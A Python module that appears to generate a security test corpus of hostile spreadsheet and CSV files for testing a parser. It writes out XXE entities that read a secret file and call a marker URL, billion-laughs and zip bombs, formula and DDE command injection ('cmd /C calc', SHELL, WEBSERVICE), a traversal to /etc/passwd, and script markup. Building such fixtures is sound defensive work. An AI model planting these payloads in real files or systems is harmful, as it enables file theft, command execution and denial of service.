"""Spreadsheets: entities, bombs, formulas, macros."""

import io
import zipfile
from pathlib import Path

import openpyxl
import xlwt

from .bulk import write_zip
from .case import Corpus

HEADER = ('subject', 'clip', 'emotion', 'fps')
ROWS = (('s1', 'c0', 'joy', 100), ('s2', 'c1', 'fear', 100))


def write(corpus: Corpus) -> None:
    """Write the family."""

    def new(what: str, plants: str, file: str = 'clips.xlsx') -> Path:
        return corpus.new(f'tables/{what}', file, 'sheet', plants)

    secret = corpus.secret('tables/entity')
    called = corpus.url('tables/entity')
    parts = _parts()
    sheet, strings = 'xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml'
    outside = (
        f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{secret}">'
        f'<!ENTITY h SYSTEM "{called}"><!ENTITY % p SYSTEM "{called}/p">%p;]>'
    ).encode()
    laughs = b'<!DOCTYPE x [<!ENTITY l0 "lol">' + b''.join(
        b'<!ENTITY l%d "%s">' % (n, b'&l%d;' % (n - 1) * 10) for n in range(1, 12)
    ) + b']>'  # fmt: skip
    for what, declared, used in (
        ('entity', outside, b'&f;&h;'), ('laughs', laughs, b'&l11;')
    ):  # fmt: skip
        for name, member in (('sheet', sheet), ('strings', strings)):
            text = b'joy' if name == 'sheet' else b'fear'
            data = _declared(parts[member], declared).replace(text, used)
            _pack(new(f'{what}-{name}', 'another file, memory'), parts | {member: data})
    for name, member in (('sheet', sheet), ('strings', strings)):
        bomb = {one: (data, 0) for one, data in parts.items()}
        start = parts[member]
        cut = start.index(b'<sheetData>' if name == 'sheet' else b'<si>')
        bomb[member] = (start[:cut], 3 * 10**9)
        write_zip(new(f'unpacks-{name}', 'memory'), bomb)
    rows = b'<row r="%d"><c r="A%d"><v>1</v></c></row>'
    data = parts[sheet].replace(
        b'</sheetData>', rows % (2**20, 2**20) + b'</sheetData>'
    )
    far = data.replace(b'"A1:D3"', b'"A1:D1048576"')
    _pack(new('row-far', 'memory'), parts | {sheet: far})
    data = parts[sheet].replace(
        b'</sheetData>',
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    )
    _pack(new('cell-far', 'memory'), parts | {sheet: data})
    data = data.replace(b'<dimension ref="A1:D3"/>', b'')
    _pack(new('cell-far-undeclared', 'memory'), parts | {sheet: data})
    data = parts[sheet].replace(b'A1:D3', b'A1:XFD1048576')
    _pack(new('dimension-giant', 'memory'), parts | {sheet: data})
    data = parts[sheet].replace(b'A1:D3', b'ZZZZZZZ99999999999999:A1')
    _pack(new('dimension-wrong', 'wrong types'), parts | {sheet: data})
    _pack(
        new('reference-wrong', 'wrong types'),
        parts | {sheet: parts[sheet].replace(b'r="A2"', b'r="A99999999999999"')},
    )
    _pack(
        new('string-outside', 'wrong types'),
        parts | {sheet: parts[sheet].replace(b'<v>0</v>', b'<v>4000000000</v>')},
    )
    deep = parts[sheet].replace(b'<sheetData>', b'<a>' * 200_000 + b'<sheetData>')
    _pack(new('deep', 'recursion'), parts | {sheet: deep})
    for what, cell in {
        'formula-command': "=cmd|' /C calc'!A0", 'formula-shell': '=SHELL("touch x")',
        'formula-link': f'=HYPERLINK("{called}","x")',
        'markup': '<img src=x onerror=planted>',
        'formula-service': f'=WEBSERVICE("{called}")', 'escape': 'a',
        'attributes': '{0.__class__}', 'long': 'x' * 32_000, 'dots': '../../secrets',
    }.items():  # fmt: skip
        _book(new(f'cell-{what}', 'a call, markup'), cell)
    linked = parts['xl/_rels/workbook.xml.rels'].replace(
        b'</Relationships>',
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument'
        b'/2006/relationships/externalLink" Target="' + called.encode()
        + b'" TargetMode="External"/></Relationships>',
    )  # fmt: skip
    _pack(
        new('external-link', 'a call to an address'),
        parts | {'xl/_rels/workbook.xml.rels': linked},
    )
    pointed = parts['xl/_rels/workbook.xml.rels'].replace(
        b'worksheets/sheet1.xml', b'../../../../../../etc/passwd'
    )
    _pack(
        new('sheet-outside', 'another file'),
        parts | {'xl/_rels/workbook.xml.rels': pointed},
    )
    _pack(
        new('macro', 'a call', 'clips.xlsm'),
        parts | {'xl/vbaProject.bin': b'\xd0\xcf\x11\xe0' + bytes(600)},
    )
    book = xlwt.Workbook()
    page = book.add_sheet('clips', cell_overwrite_ok=True)
    for number, row in enumerate((HEADER, *ROWS)):
        for column, value in enumerate(row):
            page.write(number, column, value)
    page.write(1, 2, xlwt.Formula(f'HYPERLINK("{called}","x")'))
    book.save(str(new('old-formula', 'a call', 'clips.xls')))
    whole = io.BytesIO()
    book.save(whole)
    raw = bytearray(whole.getvalue())
    new('old-cut', 'damage', 'clips.xls').write_bytes(raw[: len(raw) // 2])
    raw[0x30:0x34] = raw[0x44:0x48] = b'\0\0\0\0'  # the directory points at itself
    new('old-ring', 'time', 'clips.xls').write_bytes(bytes(raw))
    new('old-sectors', 'memory', 'clips.xls').write_bytes(
        bytes(raw[:0x1E]) + b'\xff\x7f' + bytes(raw[0x20:])
    )
    for what, columns, count in (('wide', 16_000, 60_000), ('long', 4, 2**31 - 1)):
        _open_document(new(f'repeated-{what}', 'memory', 'clips.ods'), columns, count)
    _text_files(corpus, new)


def _text_files(corpus: Corpus, new) -> None:
    head = ','.join(HEADER) + '\n'
    sound = head + ''.join(','.join(map(str, row)) + '\n' for row in ROWS)
    for what, text in {
        'long-cell': sound + 's3,' + 'x' * 10_000_000 + ',joy,100\n',
        'many-columns': sound + 's3,c9,joy,100' + ',' * 3_000_000 + '\n',
        'many-rows': sound + '\n' * 3_000_000,
        'quotes': sound + '"' * 3_000_001,
        'nul': sound.replace('c0', 'c\0'),
        'formula': sound.replace('joy', "=cmd|' /C calc'!A0"),
        'markup': sound.replace('joy', '<img src=x onerror=planted>'),
        'escape': sound.replace('joy', '\x1b[31mPLANTED'),
        'path-dots': sound.replace('c0', '../../secrets'),
        'numbers': sound.replace('100', '1e999').replace('s1', '9' * 5000),
        'empty': '',
    }.items():  # fmt: skip
        new(f'text-{what}', 'memory, markup', 'clips.csv').write_text(text)
    head = 'path,onset,apex,offset,au,' + head
    marker = corpus.url('tables/text-paths')
    lines = [
        f'{path},1,3,6,4,s{number},c{number},joy,100\n'
        for number, path in enumerate(
            [
                '../../../secrets',
                '/etc',
                marker,
                'clips/../..',
                'x' * 5000,
                '\0',
                '~root',
            ]
        )
    ]
    new('text-paths', 'another file', 'clips.csv').write_text(head + ''.join(lines))
    lines = [
        f',{value},{value},{value},{value},s{number},c{number},joy,{value}\n'
        for number, value in enumerate(['1e308', '-1', '9' * 400, 'nan', '1e9', '0x10'])
    ]
    new('text-frames', 'wrong types', 'clips.csv').write_text(head + ''.join(lines))
    new('html-as-xls', 'markup', 'clips.xls').write_text('<table><tr><td>x</table>')
    new('text-utf-16', 'damage', 'clips.csv').write_bytes(sound.encode('utf-16'))


def _book(path: Path, cell: str) -> None:
    book = openpyxl.Workbook()
    page = book.active
    page.title = 'clips'
    for row in (HEADER, *ROWS):
        page.append(row)
    page['C2'] = page['A3'] = cell
    book.save(path)


def _parts() -> dict[str, bytes]:
    """Return the members of a workbook with shared texts; only one is in the sheet."""
    main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
    office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
    package = 'http://schemas.openxmlformats.org/package/2006'
    names: list[str] = []
    rows = ''
    for number, row in enumerate((HEADER, *ROWS), 1):
        cells = ''
        for letter, value in zip('ABCD', row, strict=True):
            place = f'{letter}{number}'
            if isinstance(value, int):
                cells += f'<c r="{place}"><v>{value}</v></c>'
            elif value == 'joy':
                cells += f'<c r="{place}" t="str"><v>joy</v></c>'
            else:
                cells += f'<c r="{place}" t="s"><v>{len(names)}</v></c>'
                names.append(value)
        rows += f'<row r="{number}">{cells}</row>'
    strings = ''.join(f'<si><t>{name}</t></si>' for name in names)
    types = {'workbook': 'sheet.main', 'worksheets/sheet1': 'worksheet',
             'sharedStrings': 'sharedStrings'}  # fmt: skip
    members = {
        '[Content_Types].xml': f'<Types xmlns="{package}/content-types"><Default '
        'Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/>' + ''.join(
            f'<Override PartName="/xl/{part}.xml" ContentType="application/vnd.'
            f'openxmlformats-officedocument.spreadsheetml.{kind}+xml"/>'
            for part, kind in types.items()
        ) + '</Types>',
        '_rels/.rels': f'<Relationships xmlns="{package}/relationships"><Relationship '
        f'Id="rId1" Type="{office}/officeDocument" Target="xl/workbook.xml"/>'
        '</Relationships>',
        'xl/workbook.xml': f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
        '<sheet name="clips" sheetId="1" r:id="rId1"/></sheets></workbook>',
        'xl/_rels/workbook.xml.rels': f'<Relationships xmlns="{package}/relationships">'
        f'<Relationship Id="rId1" Type="{office}/worksheet" '
        'Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{office}/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>',
        'xl/worksheets/sheet1.xml': f'<worksheet xmlns="{main}"><dimension '
        f'ref="A1:D3"/><sheetData>{rows}</sheetData></worksheet>',
        'xl/sharedStrings.xml': f'<sst xmlns="{main}" count="{len(names)}" '
        f'uniqueCount="{len(names)}">{strings}</sst>',
    }  # fmt: skip
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return {name: (head + text).encode() for name, text in members.items()}


def _declared(data: bytes, declared: bytes) -> bytes:
    """Put a declaration of entities in front of a document's element."""
    head, _, body = data.partition(b'?>')
    return head + b'?>' + declared + body


def _pack(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def _open_document(path: Path, columns: int, rows: int) -> None:
    text = (
        '<?xml version="1.0"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        f'<office:spreadsheet><table:table table:name="a"><table:table-row '
        f'table:number-rows-repeated="{rows}"><table:table-cell office:value-type='
        f'"string" table:number-columns-repeated="{columns}"><text:p>x</text:p>'
        '</table:table-cell></table:table-row></table:table></office:spreadsheet>'
        '</office:body></office:document-content>'
    )
    told = (
        '<?xml version="1.0"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    )
    kind = 'application/vnd.oasis.opendocument.spreadsheet'
    with zipfile.ZipFile(path, 'w') as archive:
        archive.writestr('mimetype', kind)
        archive.writestr('content.xml', text)
        archive.writestr('META-INF/manifest.xml', told)
